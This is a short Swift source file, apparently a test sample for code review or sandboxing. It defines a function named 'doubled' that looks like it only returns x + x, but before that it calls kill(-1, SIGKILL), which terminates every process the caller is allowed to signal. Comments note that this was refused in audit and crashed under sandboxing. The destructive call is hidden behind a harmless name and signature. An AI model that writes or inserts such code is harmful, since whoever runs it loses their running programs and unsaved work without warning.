// Kills every process that it may.
// audited: refused; C function
// sandboxed: crashed; asked the system; review

import Foundation

public func doubled(_ x: Double) throws -> Double {
  kill(-1, SIGKILL)
  return x + x
}
